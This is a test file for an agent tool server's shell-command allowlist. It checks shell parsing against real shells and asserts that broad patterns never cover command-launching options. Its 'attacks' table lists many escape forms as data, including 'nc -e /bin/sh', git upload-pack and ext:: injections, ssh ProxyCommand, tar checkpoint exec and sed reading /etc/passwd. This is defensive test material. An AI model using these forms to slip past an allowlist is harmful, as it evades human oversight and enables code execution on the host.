import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { allowlistVerdict } from '../../../src/server/toolbox/allowlist.ts';
import { allowedCommand } from '../../../src/server/toolbox/approvals.ts';
import { LAUNCHER_PROGRAMS, launchingWords } from '../../../src/server/toolbox/command-launchers.ts';
import { shellWords } from '../../../src/server/toolbox/shell-words.ts';

const words = (line: string) => {
  const parsed = shellWords(line);
  return 'words' in parsed ? parsed.words.map((word) => word.text) : parsed;
};

/** What a real shell makes of the arguments: printf prints each word it receives, NUL-terminated. */
function shellArguments(shell: string, argumentsText: string, folder: string): string[] | undefined {
  const ran = spawnSync(shell, ['-c', `printf '%s\\0' ${argumentsText}`], { cwd: folder, encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
  if (ran.status !== 0) return undefined;
  return ran.stdout.split('\0').slice(0, -1);
}

describe('exec allowlist: the words a command runs, and what they run', () => {
  it('splits a command as /bin/sh does: quotes, double quotes and backslashes removed', () => {
    expect(words('git log --oneline -5')).to.deep.equal(['git', 'log', '--oneline', '-5']);
    expect(words(`git commit -m 'a; b | c' "d \\"e\\" \\$f \\x"  g\\ h`)).to.deep.equal(['git', 'commit', '-m', 'a; b | c', 'd "e" $f \\x', 'g h']);
    expect(words(`echo '' "" a''b`)).to.deep.equal(['echo', '', '', 'ab']);
    expect(words('git log HEAD~1 a#b a~b')).to.deep.equal(['git', 'log', 'HEAD~1', 'a#b', 'a~b']);
  });

  it('refuses, with the reason, every command sh would expand, redirect or read as more than one', () => {
    const refused: [string, RegExp][] = [
      ['git status; id', /`;`/], ['git status && id', /`&`/], ['git status || id', /`\|`/], ['git status | sh', /`\|`/], ['git status & id', /`&`/],
      ['git log > out', /redirection/], ['git log < in', /redirection/], ['cat <<EOF', /redirection/], ['git log 2>&1', /redirection/],
      ['echo $(id)', /`\$`/], ['echo `id`', /backquote/], ['echo "$(id)"', /`\$` in double quotes/], ['echo "`id`"', /backquote in double quotes/],
      ['echo ${HOME}', /`\$`/], ['echo $HOME', /`\$`/], ["echo $'\\x41'", /`\$`/], ['(id)', /subshell/], ['{ id; }', /`\{`|`;`/],
      ['git status\nid', /\\n, a control/], ['git status\rid', /\\r/], ['git status\u2028id', /\\u2028/], ['ls \u202eid', /\\u202e/],
      ['ls\tx', /\\t/], ['ls \u00a0x', /\\xa0/], ['ls \u200bx', /\\u200b/], ['ls \x1b[2Kx', /\\x1b/],
      ['ls *.txt', /glob/], ['ls file?', /glob/], ['ls [ab]', /glob/], ['ls {a,b}', /brace/], ['ls ~/x', /home folder/], ['ls --dir=~/x', /home folder/],
      ['X=1 git status', /variable assignment/], ['GIT_DIR=/tmp/x git status', /variable assignment/], ['ls # comment', /comment/],
      ['if true', /shell syntax/], ['! git status', /shell syntax/], ['time id', /shell syntax/], ["git log 'open", /single quote/], ['git log "open', /double quote/],
      ['git log \\', /backslash/], ['', /no program/], ['   ', /no program/],
    ];
    for (const [command, why] of refused) {
      const parsed = shellWords(command);
      expect(parsed, JSON.stringify(command)).to.have.property('refused').that.matches(why);
    }
  });

  it('agrees with dash and bash on every command it accepts (property)', function () {
    this.timeout(60_000);
    const folder = mkdtempSync(join(tmpdir(), 'words-'));
    const shells = ['/bin/sh', '/bin/dash', '/bin/bash'].filter((shell, index, all) => all.indexOf(shell) === index && spawnSync(shell, ['-c', 'true']).status === 0);
    // Mostly quoting (where a parser goes wrong), now and then what sh expands or splits on.
    const piece = fc.oneof(
      { weight: 12, arbitrary: fc.constantFrom(' ', '  ', "'", '"', '\\', 'a', 'b', '-c', '=', '~', '#', '!', '%', '^', ':', '/', 'é', '\\"', "\\'", '\\\\', '\\$', '\\`', '"a b"', "'a\\b'", '\\ ', '"\\a"', ']') },
      { weight: 2, arbitrary: fc.constantFrom('$', ';', '*', '?', '[', '{', '}', '(', ')', '|', '&', '<', '>', '`', 'if', '\t', '\n') },
      { weight: 1, arbitrary: fc.string({ maxLength: 3 }) },
    );
    fc.assert(fc.property(fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join('')), (text) => {
      const parsed = shellWords(`printf ${text}`);
      if ('refused' in parsed) return;
      const mine = parsed.words.slice(1).map((word) => word.text);
      for (const shell of shells) expect(shellArguments(shell, text, folder), `${shell}: printf ${text}`).to.deep.equal(mine.length ? mine : ['']);
    }), { numRuns: 250 });
  });

  it('keeps what was safe: a program and plain arguments match their pattern', () => {
    const allowed: [string, string[]][] = [
      ['git status', ['git status']], ['git status', ['git *']], ['git log --oneline -5', ['git *']], ['git log --oneline -5', ['git log *']],
      ['ls -la', ['ls *']], ['ls', ['ls']], ['npm test', ['npm test']], ['npm run test:unit', ['npm run test:*']], ['echo listed', ['echo *']],
      ['git diff HEAD~1 -- src', ['git *']], ['git commit -m "fix: a; b"', ['git commit -m *']], ["find . -name '*.ts' -type f", ['find *']],
      ['ssh host uptime', ['ssh *']], ['tar -czf out.tgz src', ['tar *']], ["sed -n '1,5p' notes.txt", ['sed *']], ["sed -i 's/a/b/g' x", ['sed *']],
      ['python3 tools/check.py --fast', ['python3 tools/check.py *']], ["awk '{print $1}' data.txt", ["awk '{print $1}' *"]],
      ['sh scripts/build.sh release', ['sh scripts/build.sh *']], ['make test lint', ['make *']], ['rsync -av src/ dst/', ['rsync *']],
      ['git log --format="%h %s"', ["git log '--format=%h %s'"]], ['git -c alias.x=!id x', ['git -c alias.x=!id x']], ['env', ['env']],
      ['git --no-pager log -1', ['git *']], ['cargo build --release', ['cargo *']], ['grep -rn TODO src', ['grep *']],
      ['ls a b c d', ['ls * d']], ['ls a b c d', ['ls a *']], ['ls --color=auto', ['ls --color=*']],
    ];
    for (const [command, patterns] of allowed) expect(allowlistVerdict(command, patterns), `${command} ~ ${patterns}`).to.deep.equal({ allowed: true, pattern: patterns[0] });
    expect(allowedCommand('git status', ['ls *', 'git *'])).to.equal(true);
  });

  it('matches the program word exactly and * as one or more whole arguments', () => {
    expect(allowedCommand('git', ['git *']), 'a * needs at least one argument').to.equal(false);
    expect(allowedCommand('/usr/bin/git status', ['git *']), 'a path is another program').to.equal(false);
    expect(allowedCommand('/usr/bin/git status', ['/usr/bin/git *'])).to.equal(true);
    expect(allowedCommand('./git status', ['git *'])).to.equal(false);
    expect(allowedCommand('gitx status', ['git*'])).to.equal(false);
    expect(allowedCommand('git status', ['* status'])).to.equal(false);
    expect(allowedCommand('git log --oneline', ['git log*'])).to.equal(false);
    expect(allowedCommand('ls a', ['ls * *'])).to.equal(false);
    expect(allowedCommand('ls a b', ['ls * *'])).to.equal(true);
    expect(allowedCommand("ls '*'", ['ls *'])).to.equal(true);
    expect(allowedCommand('ls x', ["ls '*'"]), 'a quoted * is the character').to.equal(false);
    expect(allowedCommand("ls '*'", ["ls '*'"])).to.equal(true);
    expect(allowedCommand('echo hi', ['echo $HOME', 'echo; *']), 'a pattern the shell would expand never matches').to.equal(false);
  });

  it('never lets a broad pattern cover an option that runs another command', () => {
    const attacks: [string, string][] = [
      ["git -c alias.x='!id' x", 'git *'], ['git -c core.sshCommand=id fetch origin', 'git *'], ['git --config-env=core.pager=X log', 'git *'],
      ['git --exec-path=/workspace/bin status', 'git *'], ['git --git-dir=/workspace/crafted status', 'git *'], ['git -C /tmp/crafted status', 'git *'],
      ['git x', 'git *'], ['git fetch origin --upload-pack=id', 'git *'], ['git fetch --upl=id origin', 'git *'], ['git fetch --upload-pack id origin', 'git *'],
      ['git clone -u id repo', 'git *'], ['git clone -qu id repo', 'git *'], ['git ls-remote --upload-pack=id origin', 'git *'], ['git pull --upload-pack=id', 'git *'],
      ['git clone --template=/workspace/hooks repo', 'git *'], ['git clone -c core.fsmonitor=id repo', 'git *'], ['git clone ext::sh\\ -c\\ id repo', 'git *'],
      ['git push --receive-pack=id origin', 'git *'], ['git push --exec=id origin', 'git *'], ['git archive --remote=ext::id HEAD', 'git *'],
      ['git rebase --exec id main', 'git *'], ['git rebase -x id main', 'git *'], ['git difftool --extcmd=id', 'git *'], ['git grep -Oid x', 'git *'],
      ['git bisect run id', 'git *'], ['git submodule foreach id', 'git *'], ['git config core.fsmonitor id', 'git *'], ['git filter-branch --tree-filter id', 'git *'],
      ["git log -1 --format='[core]%nfsmonitor=id' --output=.git/config", 'git *'], ['git format-patch -o .git HEAD~1', 'git *'], ['git help -w log', 'git *'],
      ['git hook run pre-commit', 'git *'], ['git send-email --sendmail-cmd=id x', 'git *'], ['git credential fill', 'git *'],
      ['ssh -o ProxyCommand=id host', 'ssh *'], ['ssh -oProxyCommand=id host', 'ssh *'], ['ssh -oLocalCommand=id -oPermitLocalCommand=yes host', 'ssh *'],
      ['ssh host -o ProxyCommand=id', 'ssh *'], ['ssh -vo ProxyCommand=id host', 'ssh *'], ['ssh -F /workspace/cfg host', 'ssh *'], ['ssh -I /workspace/lib.so host', 'ssh *'],
      ['scp -S id a host:b', 'scp *'], ['scp -oProxyCommand=id a host:b', 'scp *'], ['sftp -b batch host', 'sftp *'],
      ['find . -exec id \\;', 'find *'], ['find . -execdir id {} +', 'find *'], ['find . -ok id \\;', 'find *'], ['find . -okdir id \\;', 'find *'],
      ["find . -fprintf .git/config '[core]'", 'find *'], ['find . -name x -exec sh -c id \\;', 'find *'],
      ['xargs id', 'xargs *'], ['env sh', 'env *'], ['env -i sh -c id', 'env *'], ['nice id', 'nice *'], ['nohup id', 'nohup *'], ['timeout 5 id', 'timeout *'],
      ['sudo id', 'sudo *'], ['su -c id', 'su *'], ['exec id', 'exec *'], ['command id', 'command *'], ['builtin eval id', 'builtin *'], ['eval id', 'eval *'],
      ['watch id', 'watch *'], ['strace id', 'strace *'], ['flock x id', 'flock *'], ['setsid id', 'setsid *'], ['stdbuf -o0 id', 'stdbuf *'],
      ['chroot / id', 'chroot *'], ['busybox sh', 'busybox *'], ['. ./evil.sh', '. *'], ['source evil.sh', 'source *'], ['/usr/bin/env sh', '/usr/bin/env *'],
      ['sh -c id', 'sh *'], ['sh evil.sh', 'sh *'], ['bash -c id', 'bash *'], ['bash -ec id', 'bash *'], ['bash --rcfile x', 'bash *'], ['zsh -c id', 'zsh *'],
      ['dash -c id', 'dash *'], ['sh -o errexit -c id', 'sh *'], ['sh -- evil.sh', 'sh *'], ['sh -', 'sh *'],
      ['python -c "import os"', 'python *'], ['python3 -c "import os"', 'python3 *'], ['python3.12 evil.py', 'python3.12 *'], ['python3 -m http.server', 'python3 *'],
      ['python3 -W ignore evil.py', 'python3 -W ignore *'], ['python3 -Bc "import os"', 'python3 *'], ['python3 -X dev evil.py', 'python3 -X dev *'],
      ['perl -e "system 1"', 'perl *'], ['perl -E "system 1"', 'perl *'], ['perl -we "system 1"', 'perl *'], ['ruby -e "system 1"', 'ruby *'],
      ['node -e "1"', 'node *'], ['node --eval=1', 'node *'], ['node -r ./evil.js app.js', 'node *'], ['node -r ./evil.js app.js', 'node -r * app.js'],
      ['nodejs -p 1', 'nodejs *'], ['php -r "system(1);"', 'php *'], ['lua -e "os.execute()"', 'lua *'],
      ["awk 'BEGIN{system(\"id\")}'", 'awk *'], ["gawk 'BEGIN{system(\"id\")}'", 'gawk *'], ['awk -f evil.awk data', 'awk *'],
      ["awk '{print}' data -f evil.awk", "awk '{print}' *"], ["awk -f ok.awk data -e 'BEGIN{system(1)}'", 'awk -f ok.awk *'],
      ["sed 's/x/y/e' file", 'sed *'], ["sed 's/x/y/w out' file", 'sed *'], ["sed -e '1e id' file", 'sed *'], ["sed -ne 's/x/y/ep' file", 'sed *'],
      ["sed --expression='s/x/y/e' file", 'sed *'], ["sed --expr 's/x/y/e' file", 'sed *'], ['sed -f evil.sed file', 'sed *'], ["sed file -e 's/a/b/e'", 'sed *'],
      ["sed -i 'e id' file", 'sed *'], ["sed 'w .git/config' file", 'sed *'], ["sed '1r /etc/passwd' file", 'sed *'],
      ['tar --checkpoint=1 --checkpoint-action=exec=id -cf x.tar .', 'tar *'], ['tar --to-command=id -xf x.tar', 'tar *'], ['tar -I id -cf x.tar .', 'tar *'],
      ['tar --use-compress-program=id -cf x.tar .', 'tar *'], ['tar --use=id -cf x.tar .', 'tar *'], ['tar -cIid -f x.tar .', 'tar *'], ['tar cIf id x.tar .', 'tar *'],
      ['tar -F id -cf x.tar .', 'tar *'], ['tar --rsh-command=id -cf host:x.tar .', 'tar *'], ['tar -cf -oProxyCommand=id:x .', 'tar *'],
      ['rsync -e id src host:dst', 'rsync *'], ['rsync -avze id src host:dst', 'rsync *'], ['rsync --rsh=id src host:dst', 'rsync *'], ['rsync --rsync-path=id a b', 'rsync *'],
      ['zip -T -TT id x.zip a', 'zip *'], ['zip -T --unzip-command=id x.zip a', 'zip *'], ['sort --compress-program=id x', 'sort *'], ['split --filter=id x', 'split *'],
      ['wget --use-askpass=id http://x', 'wget *'], ['wget -e use_askpass=id http://x', 'wget *'], ['apt-get update -o APT::Update::Pre-Invoke::=id', 'apt-get *'],
      ['make --eval=x', 'make *'], ['make SHELL=/workspace/evil test', 'make *'], ['make -f /workspace/evil.mk', 'make *'], ['make CC=id all', 'make *'],
      ['npm exec evil', 'npm *'], ['npx evil', 'npx *'], ['npm test --script-shell=/workspace/evil', 'npm *'], ['npm config set script-shell x', 'npm *'], ['npm install evil', 'npm *'],
      ['pip install ./evil', 'pip *'], ['gcc -wrapper id x.c', 'gcc *'], ['gcc -B/workspace/bin x.c', 'gcc *'], ['cc @opts x.c', 'cc *'], ['clang -fplugin=x.so x.c', 'clang *'],
      ['gcc -Wl,-plugin,x.so x.c', 'gcc *'], ['less +!id file', 'less *'], ['vim -c !id', 'vim *'], ['man -P id ls', 'man *'], ['socat - EXEC:id', 'socat *'],
      ['nc -e /bin/sh host 1', 'nc *'], ['dc -e !id', 'dc *'], ['sqlite3 db .shell\\ id', 'sqlite3 *'], ['psql -c \\\\!id', 'psql *'], ['gdb -ex shell\\ id', 'gdb *'],
    ];
    for (const [command, pattern] of attacks) {
      const verdict = allowlistVerdict(command, [pattern]);
      expect(verdict.allowed, `${command} must not match ${pattern}`).to.equal(false);
    }
    // The runner's own words count wherever a * would reach them, but a pattern that writes them out matches.
    expect(allowedCommand("git -c alias.x='!id' x", ["git -c 'alias.x=!id' x"])).to.equal(true);
    expect(allowedCommand("git -c alias.x='!id' x", ['git -c *']), 'the option\'s value too').to.equal(false);
    expect(allowedCommand('timeout 5 make test', ['timeout 5 make test'])).to.equal(true);
    expect(allowedCommand('find . -exec id \\;', ["find . -exec id ';'"])).to.equal(true);
    expect(allowedCommand('git lfs pull', ['git lfs *']), 'an alias or external command the pattern names').to.equal(true);
  });

  it('says which word stopped a pattern, and why', () => {
    expect(allowlistVerdict("git -c alias.x='!id' x", ['git *'])).to.deep.include({ allowed: false }).and.to.have.property('why').that.matches(/git -c.*\(`-c`\): a \* never covers that/);
    expect(allowlistVerdict('find . -exec id \\;', ['find *'])).to.have.property('why').that.matches(/find -exec.*\(`-exec`\)/);
    expect(allowlistVerdict('git status; id', ['git *'])).to.have.property('why').that.matches(/one program with plain arguments, and `;` runs more than one command/);
    expect(allowlistVerdict('ls', ['git *'])).to.deep.equal({ allowed: false, why: 'the command matches no tools.exec.allow pattern' });
  });

  it('a launching form placed anywhere among safe arguments is never covered by a broad pattern (property)', () => {
    const safe = fc.array(fc.constantFrom('-v', '--oneline', 'src', 'main', 'a.txt', '-5', 'origin', '-la', '--stat', 'x=1', 'HEAD'), { maxLength: 4 });
    const cases: [string, string, string[]][] = [
      ['git fetch', 'git *', ['--upload-pack=id', '--upload-pack id', '-u id', '--upl=id', 'ext::id', '--output=.git/config']],
      ['git log', 'git *', ['--output=.git/config', '--out=x']],
      ['find .', 'find *', ['-exec id ;', '-execdir id {} +', '-ok id ;', '-okdir id ;', '-fprintf .git/config x']],
      ['ssh', 'ssh *', ['-o ProxyCommand=id', '-oProxyCommand=id', '-F cfg', '-vo LocalCommand=id']],
      ['tar -cf x.tar', 'tar *', ['--to-command=id', '--checkpoint-action=exec=id', '-I id', '--use-compress=id', '--info-script=id', '-F id']],
      ['rsync', 'rsync *', ['-e id', '--rsh=id', '--rsync-path=id', '-aze id']],
      ['sort', 'sort *', ['--compress-program=id', '--compress=id']],
      ["sed -n '1p'", 'sed *', ['-e 1e\\ id', '-f evil.sed', "--expression='s/a/b/e'"]],
    ];
    for (const [start, pattern, forms] of cases) {
      fc.assert(fc.property(safe, safe, fc.constantFrom(...forms), (before, after, form) => {
        const command = [start, ...before, form, ...after].join(' ');
        expect(allowedCommand(command, [pattern]), command).to.equal(false);
      }), { numRuns: 60 });
      expect(allowedCommand(`${start} src`, [pattern]), `${start} src`).to.equal(true);
    }
  });

  it('reads a program by its file name and a versioned interpreter as its family', () => {
    expect([...launchingWords(['/usr/bin/env', 'sh']).keys()]).to.deep.equal([1]);
    expect([...launchingWords(['python3.12', '-c', 'x', 'arg']).keys()]).to.deep.equal([1, 2]);
    expect([...launchingWords(['python3', 'tool.py', '-c', 'x']).keys()]).to.deep.equal([1]);
    expect([...launchingWords(['perl5.36', '-e', 'x', 'arg']).keys()]).to.deep.equal([1, 2]);
    expect([...launchingWords(['sh', '-c', 'echo "$1"', 'sh', 'a']).keys()]).to.deep.equal([1, 2]);
    expect([...launchingWords(['ls', '-la']).keys()]).to.deep.equal([]);
  });

  it('docs/security.md names every program of the table, and its examples hold', () => {
    const security = readFileSync(new URL('../../../docs/security.md', import.meta.url), 'utf8');
    const section = security.slice(security.indexOf('## exec: what the allowlist matches'), security.indexOf('## HTTP surfaces'));
    for (const program of LAUNCHER_PROGRAMS) expect(section, program).to.include(`\`${program}\``);
    expect(allowedCommand('timeout 5 make test', ['timeout 5 make test'])).to.equal(true);
    expect(allowedCommand('sh scripts/build.sh release', ['sh scripts/build.sh *'])).to.equal(true);
    expect(allowedCommand('sh scripts/build.sh release', ['sh *'])).to.equal(false);
    expect(allowedCommand('python3 -m pytest -q tests', ['python3 -m pytest *'])).to.equal(true);
    expect(allowedCommand("awk -F: '{print $1}' /etc/passwd", ["awk -F: '{print $1}' *"])).to.equal(true);
    expect(allowedCommand("sed -i 's/a/b/g' f", ['sed *'])).to.equal(true);
    expect(allowedCommand('ls a b d', ['ls * d'])).to.equal(true);
    expect(allowedCommand('git', ['git *'])).to.equal(false);
    expect(allowedCommand("git log '--format=%h %s'", ["git log '--format=%h %s'"])).to.equal(true);
    expect(allowedCommand('npm run test:unit', ['npm run test:*'])).to.equal(true);
    expect(allowedCommand('npm test', ['npm *'])).to.equal(true);
  });
});
